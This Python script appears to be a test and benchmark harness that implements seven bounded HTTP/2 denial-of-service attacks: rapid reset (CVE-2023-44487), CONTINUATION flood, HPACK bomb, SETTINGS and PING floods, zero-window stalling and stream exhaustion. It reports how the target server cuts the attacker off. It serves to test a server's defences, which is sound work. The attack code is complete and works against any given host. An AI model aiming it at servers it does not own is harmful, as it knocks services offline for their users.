#!/usr/bin/python3
"""HTTP/2 attacks, bounded in count and time, for tests/netns/h2_attack.rs and scripts/bench.

Usage: h2_attack.py HOST PORT ATTACK [--seconds S] [--max-units N] [--parallel P]
                    [--max-conns C] [--conn-interval I] [--path PATH] [--json]

h2c with prior knowledge only (frames are written by hand; HPACK from Debian's python3-h2, so
this runs under /usr/bin/python3). The attacker keeps P connections going; one the server cuts
off is replaced by a new one until S seconds have passed, N units have been sent or C
connections have been opened, whichever comes first; with --conn-interval, new connections are
at least I seconds apart (a slower attacker that lasts S seconds). ATTACK is one of:

  rapid_reset     CVE-2023-44487: HEADERS (a GET of PATH, END_STREAM) then RST_STREAM(CANCEL)
                  at once, stream after stream. Use a PATH whose response cannot finish within
                  the initial window (65,535 bytes), so every reset lands on a live stream.
  continuation    one HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB literal
                  fields (never indexed), without end. The 2024 CONTINUATION-flood family.
  hpack_bomb      a 4,000-byte field put in the dynamic table once per connection, then on each
                  new stream a 16 KiB header block of one-byte references to it: about 65 MB of
                  decoded header list per frame.
  settings_flood  SETTINGS frames without end; the attacker never reads (so every ACK the
                  server owes it queues on the server's side).
  ping_flood      the same with PING frames.
  zero_window     SETTINGS_INITIAL_WINDOW_SIZE 0, then GETs of PATH on as many streams as the
                  server allows, never a WINDOW_UPDATE; streams the server resets are replaced.
  streams         GETs without END_STREAM (the streams stay open on the client's side), without
                  end: everything past the server's max_concurrent_streams must be refused.

A unit is one stream (rapid_reset, hpack_bomb, zero_window, streams) or one frame
(continuation, settings_flood, ping_flood). Prints one line at the end:

  attack NAME units=U conns=C cut=K first_cut_s=T goaways=CODE:n,... closed=X open=Y
         rst=CODE:n,... responses=R stalled=Z bytes=B seconds=S

`cut` counts connections the server ended (GOAWAY or close), `first_cut_s` is when the first
was (seconds from the start, `-` if none), `goaways` the codes of the GOAWAY frames received,
`closed` connections closed or reset without a GOAWAY, `open` those still open at the end;
`rst` counts RST_STREAM frames received by code, `responses` HEADERS frames received,
`stalled` connections the server stopped reading from for over a second (flow control or
TCP backpressure holding the attacker). With --json the same as one JSON object.
"""

import argparse
import json
import select
import socket
import struct
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
INITIAL_WINDOW_SIZE = 0x4
CODES = {
    0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
    4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM",
    8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM",
    12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED",
}
ATTACKS = ["rapid_reset", "continuation", "hpack_bomb", "settings_flood", "ping_flood",
           "zero_window", "streams"]
# Output queued per connection before the attacker waits for the socket.
HIGH_WATER = 256 * 1024
# A connection whose output made no progress this long is "stalled".
STALL_S = 1.0


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value, prefix_bits, first):
    """An HPACK integer with `first` holding the bits above the prefix (RFC 7541 §5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def literal(name, value, indexing=False):
    """A literal field with a new name: with incremental indexing, or never indexed."""
    head = b"\x40" if indexing else b"\x10"
    return (head + hpack_int(len(name), 7, 0) + name + hpack_int(len(value), 7, 0) + value)


class Attack:
    """What one attack sends; one instance per connection."""

    reads = True

    def __init__(self, args):
        self.args = args
        self.sid = 1
        self.pseudo = hpack.Encoder().encode([
            (":method", "GET"), (":scheme", "http"), (":authority", "paf.test"),
            (":path", args.path)])

    def settings(self):
        return frame(SETTINGS, 0, 0)

    def begin(self):
        return b""

    def unit(self, conn):
        """The next unit's bytes, or None when nothing is to be sent now."""
        raise NotImplementedError

    def next_sid(self):
        sid, self.sid = self.sid, self.sid + 2
        return sid


class RapidReset(Attack):
    def unit(self, conn):
        sid = self.next_sid()
        return (frame(HEADERS, END_HEADERS | END_STREAM, sid, self.pseudo)
                + frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))


class Continuation(Attack):
    FIELD = literal(b"x-flood", b"c" * 16000)

    def begin(self):
        return frame(HEADERS, END_STREAM, self.next_sid(), self.pseudo)

    def unit(self, conn):
        return frame(CONTINUATION, 0, 1, self.FIELD)


class HpackBomb(Attack):
    def __init__(self, args):
        super().__init__(args)
        self.first = True

    def unit(self, conn):
        block = self.pseudo
        if self.first:
            # Name + value + 32 = 4,038 bytes: fits the 4,096-byte table, becomes index 62.
            block += literal(b"x-bomb", b"b" * 4000, indexing=True)
            self.first = False
        block += b"\xbe" * (16384 - len(block))
        return frame(HEADERS, END_HEADERS | END_STREAM, self.next_sid(), block)


class SettingsFlood(Attack):
    reads = False

    def unit(self, conn):
        return frame(SETTINGS, 0, 0, struct.pack(">HI", 0x3, 100))


class PingFlood(Attack):
    reads = False

    def unit(self, conn):
        return frame(PING, 0, 0, b"floodpin")


class ZeroWindow(Attack):
    def settings(self):
        return frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))

    def unit(self, conn):
        # As many streams open as the server allows (its refusals and resets free slots).
        if conn.open_streams >= conn.peer_max_streams:
            return None
        conn.open_streams += 1
        return frame(HEADERS, END_HEADERS | END_STREAM, self.next_sid(), self.pseudo)


class Streams(Attack):
    def unit(self, conn):
        return frame(HEADERS, END_HEADERS, self.next_sid(), self.pseudo)


KINDS = dict(zip(ATTACKS, [RapidReset, Continuation, HpackBomb, SettingsFlood, PingFlood,
                           ZeroWindow, Streams]))


class Conn:
    """One attacking connection: non-blocking, output queued, input parsed when read."""

    def __init__(self, args, stats):
        self.args, self.stats = args, stats
        self.attack = KINDS[args.attack](args)
        self.s = socket.create_connection((args.host, args.port), timeout=3)
        self.s.setblocking(False)
        self.out = bytearray(PREFACE + self.attack.settings() + self.attack.begin())
        self.inbuf = bytearray()
        self.dead = None  # "goaway CODE" | "closed" once the server cut it off
        self.open_streams = 0
        self.peer_max_streams = 100
        self.progress = time.monotonic()
        self.stalled = False
        self.last_peek = 0.0

    def pump(self, now):
        """Writes what the socket takes, reads (or, for floods, checks) the input."""
        if self.out:
            try:
                n = self.s.send(self.out)
                del self.out[:n]
                self.stats["bytes"] += n
                if n:
                    self.progress = now
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                self.cut("closed")
                return
            if self.out and now - self.progress > STALL_S and not self.stalled:
                self.stalled = True
                self.stats["stalled"] += 1
        if self.attack.reads:
            self.read()
        elif now - self.last_peek > 0.1:
            # Not reading is the attack; only look whether the server has given up on us.
            self.last_peek = now
            try:
                if self.s.recv(1, socket.MSG_PEEK) == b"":
                    self.read()  # the frames before the close (a GOAWAY?)
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                self.read()

    def read(self):
        while self.dead is None:
            try:
                data = self.s.recv(262144)
            except (BlockingIOError, InterruptedError):
                return
            except OSError:
                self.parse()
                self.cut("closed")
                return
            if not data:
                self.parse()
                self.cut("closed")
                return
            self.inbuf += data
            self.parse()

    def parse(self):
        buf = self.inbuf
        while len(buf) >= 9 and self.dead is None:
            n = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + n:
                break
            kind, flags = buf[3], buf[4]
            payload = bytes(buf[9:9 + n])
            del buf[:9 + n]
            if kind == SETTINGS and not flags & ACK:
                for i in range(0, len(payload) - 5, 6):
                    ident, value = struct.unpack(">HI", payload[i:i + 6])
                    if ident == 0x3:
                        self.peer_max_streams = value
                if self.attack.reads:
                    self.out += frame(SETTINGS, ACK, 0)
            elif kind == GOAWAY and len(payload) >= 8:
                self.cut("goaway " + CODES.get(struct.unpack(">I", payload[4:8])[0], "?"))
            elif kind == RST_STREAM and len(payload) == 4:
                code = CODES.get(struct.unpack(">I", payload)[0], "?")
                self.stats["rst"][code] = self.stats["rst"].get(code, 0) + 1
                self.open_streams = max(0, self.open_streams - 1)
            elif kind == HEADERS:
                self.stats["responses"] += 1

    def cut(self, how):
        if self.dead is None:
            self.dead = how
            s = self.stats
            s["cut"] += 1
            if s["first_cut_s"] is None:
                s["first_cut_s"] = round(time.monotonic() - s["t0"], 3)
            if how == "closed":
                s["closed"] += 1
            else:
                code = how.split(" ", 1)[1]
                s["goaways"][code] = s["goaways"].get(code, 0) + 1
        try:
            self.s.close()
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("attack", choices=ATTACKS)
    ap.add_argument("--seconds", type=float, default=5.0)
    ap.add_argument("--max-units", type=int, default=10_000_000)
    ap.add_argument("--parallel", type=int, default=1)
    ap.add_argument("--max-conns", type=int, default=100_000)
    ap.add_argument("--conn-interval", type=float, default=0.0)
    ap.add_argument("--path", default="/bench")
    ap.add_argument("--json", action="store_true")
    args = ap.parse_args()
    if not 0 < args.seconds <= 600 or args.parallel < 1 or args.max_conns < 1:
        ap.error("--seconds must be in (0, 600], --parallel and --max-conns at least 1")

    t0 = time.monotonic()
    deadline = t0 + args.seconds
    stats = {"t0": t0, "units": 0, "conns": 0, "cut": 0, "first_cut_s": None, "goaways": {},
             "closed": 0, "rst": {}, "responses": 0, "stalled": 0, "bytes": 0,
             "connect_errors": 0}
    conns = []
    last_connect = -1e9
    while True:
        now = time.monotonic()
        if now >= deadline or stats["units"] >= args.max_units:
            break
        # Replace the connections the server cut off.
        while len(conns) < args.parallel and stats["conns"] < args.max_conns:
            if now - last_connect < args.conn_interval:
                break
            last_connect = now
            try:
                conns.append(Conn(args, stats))
                stats["conns"] += 1
            except OSError:
                stats["connect_errors"] += 1
                time.sleep(0.05)
                break
        if not conns:
            if stats["conns"] >= args.max_conns:
                break
            time.sleep(min(0.01, max(0.0, deadline - now)))
            continue
        idle = True
        for c in conns:
            # Queue units while the connection's output is short, at most 64 per round.
            for _ in range(64):
                if len(c.out) >= HIGH_WATER or stats["units"] >= args.max_units:
                    break
                b = c.attack.unit(c)
                if b is None:
                    break
                c.out += b
                stats["units"] += 1
                idle = False
            c.pump(now)
        conns = [c for c in conns if c.dead is None]
        # Wait for the sockets when no connection could take another unit (output full, or
        # nothing to send until the server answers).
        if conns and (idle or all(len(c.out) >= HIGH_WATER for c in conns)):
            writers = [c.s for c in conns if c.out]
            readers = [c.s for c in conns if c.attack.reads]
            select.select(readers, writers, [], 0.05)
    # Whatever the server said before the end (a GOAWAY read now still counts as a cut-off).
    for c in conns:
        c.read()
    open_ = sum(1 for c in conns if c.dead is None)
    for c in conns:
        if c.dead is None:
            c.s.close()
    stats["open"] = open_
    stats["seconds"] = round(time.monotonic() - t0, 3)
    del stats["t0"]
    if args.json:
        print(json.dumps({"attack": args.attack, **stats}), flush=True)
        return
    kv = lambda d: ",".join(f"{k}:{v}" for k, v in sorted(d.items())) or "-"
    fc = "-" if stats["first_cut_s"] is None else stats["first_cut_s"]
    print(f"attack {args.attack} units={stats['units']} conns={stats['conns']} cut={stats['cut']} "
          f"first_cut_s={fc} goaways={kv(stats['goaways'])} closed={stats['closed']} "
          f"open={open_} rst={kv(stats['rst'])} responses={stats['responses']} "
          f"stalled={stats['stalled']} bytes={stats['bytes']} seconds={stats['seconds']} "
          f"connect_errors={stats['connect_errors']}", flush=True)


if __name__ == "__main__":
    main()
